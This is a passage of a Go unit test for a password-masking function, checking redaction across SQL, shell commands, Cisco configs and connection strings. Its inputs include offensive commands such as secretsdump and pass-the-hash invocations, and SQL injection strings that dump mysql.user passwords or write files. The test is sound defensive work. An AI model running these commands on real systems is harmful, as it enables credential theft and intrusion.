		{"ALTER ROLE ann PASSWORD $$a b$$", "ALTER ROLE ann PASSWORD $$****$$"},
		{"SET PASSWORD FOR ann = PASSWORD('a b')", "SET PASSWORD FOR ann = PASSWORD('****')"},
		{"INSERT INTO users (name, `password`, age) VALUES ('ann', 'a,b', 7), ('bob', 'c''d', 8)", "INSERT INTO users (name, `password`, age) VALUES ('ann', '****', 7), ('bob', '****''****', 8)"},
		{"SELECT aes_decrypt(c, 'a b') FROM t", "SELECT aes_decrypt(c, '****') FROM t"},
		{"EXEC sp_addlogin 'ann', 'a b'", "EXEC sp_addlogin 'ann', '****'"},
		{"OPENROWSET('SQLOLEDB', 'h'; 'sa'; 'a b', 'select 1')", "OPENROWSET('SQLOLEDB', 'h'; 'sa'; '****', 'select 1')"},
		{"Your password is: a!b4cd", "Your password is: ****"},
		{"Das Passwort lautet: a!b4cd", "Das Passwort lautet: ****"},
		{"La contraseña es a!b4cd", "La contraseña es ****"},
		{"vault login a!b", "vault login ****"},
		{`schtasks /create /tn x /ru corp\ann /rp a!b`, `schtasks /create /tn x /ru corp\ann /rp ****`},
		{"lftp -u ann,a!b sftp://h", "lftp -u ann,**** sftp://h"},
		{"mc alias set s3 https://h.example AK a!b", "mc alias set s3 https://h.example AK ****"},
		{"mysqladmin -u root password a!b", "mysqladmin -u root password ****"},
		{"java -jar jenkins-cli.jar -auth ann:a!b who-am-i", "java -jar jenkins-cli.jar -auth ann:**** who-am-i"},
		{"dotnet nuget add source https://h.example -u ann -p a!b", "dotnet nuget add source https://h.example -u ann -p ****"},
		{`echo "a!b" | gh auth login --with-token`, `echo "****" | gh auth login --with-token`},
		{"echo a!b | vncpasswd -f", "echo **** | vncpasswd -f"},
		{"etcdctl --user root:a!b get /", "etcdctl --user root:**** get /"},
		{"http -a ann:a!b h.example", "http -a ann:**** h.example"},
		{"bloodhound-python -u ann -p a!b -d corp", "bloodhound-python -u ann -p **** -d corp"},
		{"impacket-mssqlclient corp/ann:a!b@10.0.0.1", "impacket-mssqlclient corp/ann:****@10.0.0.1"},
		{"secretsdump.py -hashes :5db687ee9f837e9b corp/ann@10.0.0.1", "secretsdump.py -hashes **** corp/ann@10.0.0.1"},
		{"nxc smb 10.0.0.1 -u ann -H 5db687ee9f837e9b", "nxc smb 10.0.0.1 -u ann -H ****"},
		{"twine upload -u ann -p a!b dist/x", "twine upload -u ann -p **** dist/x"},
		{"skopeo copy --src-creds ann:a!b docker://a docker://b", "skopeo copy --src-creds **** docker://a docker://b"},
		{`10.0.0.1 10.0.0.9 : PSK "a b"`, `10.0.0.1 10.0.0.9 : PSK "****"`},
		{"username ann privilege 15 password 0 a!b\nline vty 0 4", "username ann privilege 15 password 0 ****\nline vty 0 4"},
		{"enable password a!b\n", "enable password ****\n"},
		{"enable password 7 0822455D0A16\n", "enable password 7 ****\n"},
		{"hostname r\nenable secret a!b\nend", "hostname r\nenable secret ****\nend"},
		{"enable secret 0 a)b\nenable secret 9 $9$abc$def\nenable secret level 7 5 a!b\r\n", "enable secret 0 ****\nenable secret 9 ****\nenable secret level 7 5 ****\r\n"},
		{"enable password 8Ry2YjIyt7RRXU24 encrypted\n", "enable password **** encrypted\n"},
		{"r(config)#enable secret a!b\nr(config)# enable secret 5 a!b\n", "r(config)#enable secret ****\nr(config)# enable secret 5 ****\n"},
		{`{"config":"hostname r\nenable secret a&b"}`, `{"config":"hostname r\nenable secret ****"}`},
		{"c=hostname+r%0Aenable+secret+a%21b%0Aend", "c=hostname+r%0Aenable+secret+****%0Aend"},
		{"username ann secret a!b\nusername bob password a!b\n", "username ann secret ****\nusername bob password ****\n"},
		{"username ann privilege 15 secret 9 $9$abc$def\nusername bob password 5 a!b role network-admin\n", "username ann privilege 15 secret 9 ****\nusername bob password 5 **** role network-admin\n"},
		{"tacacs-server host 10.0.0.1 key 7 0822455D0A16\nradius-server key a!b\n", "tacacs-server host 10.0.0.1 key 7 ****\nradius-server key ****\n"},
		{"mysql_connect('localhost','root','a b')", "mysql_connect('localhost','root','****')"},
		{`mysqli_connect( "h", "root", "a b", "shop" ); new mysqli ( $h, 'root', 'a,b', 'shop' )`, `mysqli_connect( "h", "root", "****", "shop" ); new mysqli ( $h, 'root', '****', 'shop' )`},
		{`$db = new PDO('mysql:host=h;dbname=shop', 'root', 'a b', [PDO::ATTR_PERSISTENT => true]);`, `$db = new PDO('mysql:host=h;dbname=shop', 'root', '****', [PDO::ATTR_PERSISTENT => true]);`},
		{`mysqli_real_connect($l, f("h", 1), "root", "a b")`, `mysqli_real_connect($l, f("h", 1), "root", "****")`},
		{`DriverManager.getConnection("jdbc:mysql://h/shop", "root", "a b")`, `DriverManager.getConnection("jdbc:mysql://h/shop", "root", "****")`},
		{"oci_connect('ann', 'a b', 'h/x'); ldap_bind($l, 'cn=ann', 'a b'); ftp_login($f, 'ann', 'a b')", "oci_connect('ann', '****', 'h/x'); ldap_bind($l, 'cn=ann', '****'); ftp_login($f, 'ann', '****')"},
		{"SELECT aes_decrypt(unhex('00'), 'a b') FROM t", "SELECT aes_decrypt(unhex('00'), '****') FROM t"},
		{"snmp-server community a!b RO\n", "snmp-server community **** RO\n"},

		// These have none.
		{"nmap -p 80,443 10.0.0.0/24; mkdir -p /tmp/x; ssh -p 2222 h", ""},
		{"docker run -p 8080:80 -u 1000:1000 x", ""},
		{"mysql -h 10.0.0.1 -P 3307 -e x", ""},
		{"wget -P /tmp http://h.example/x; curl -o /tmp/x http://h.example/x", ""},
		{"net localgroup administrators ann /add; net user", ""},
		{"echo a | base64; echo hello", ""},
		{"vault status; vault read secret/x; mc ls s3; http GET h.example -o x", ""},
		{"schtasks /query /tn x; dotnet run -p x.csproj; twine check dist/x", ""},
		{"to enable password protection, the username and password of 5 users are needed", ""},
		{"das Passwort ist falsch; la contraseña es incorrecta; curl -H Host:h.example http://h.example", ""},
		{"git push -u origin main", ""},
		{"1' UNION SELECT user, password FROM mysql.user WHERE password LIKE 'a%'-- -", ""},
		{"' OR password IS NOT NULL; SELECT 'x' INTO OUTFILE '/tmp/x'", ""},
		{"INSERT INTO t (a, b) VALUES ('pass', 1)", ""},
		{"the password is wrong; a password 'must' be set, PASSWORD ='' OR 1=1", "the password is wrong; a password '****' be set, PASSWORD ='' OR 1=1"},
		{"pass the ball; auth failed\nauth required", ""},
		{"--password-file /run/x --token-type b", ""},
		{"enable secret scanning for all repositories\nenable password policies of the site\nenable\nEnable secret scanning\n", ""},
		{"username and password\nusername or password wrong\nusername: ann\nusername ann logged in\n", ""},
		{"we enable secret things; the username ann has a password", ""},
		{"mysql_connect(): Access denied for user 'root'@'localhost' in '/var/www/x.php' on line 3", ""},
		{"mysqli, pdo, 'a', 'b', 'c'; new PDO($dsn, $cfg['user'], $cfg['db_pw']); mysql_connect('h', 'root', $pw); PDO::query('a', 'b', 'c')", ""},
	} {
		want := c.want
		if want == "" {
			want = c.text
		}
		got := Mask(c.text)
		if got != want {
			t.Errorf("%q is masked as\n%q, want\n%q", c.text, got, want)
		}
		if again := Mask(got); again != got {
			t.Errorf("%q is masked as %q", got, again)
		}
	}
}
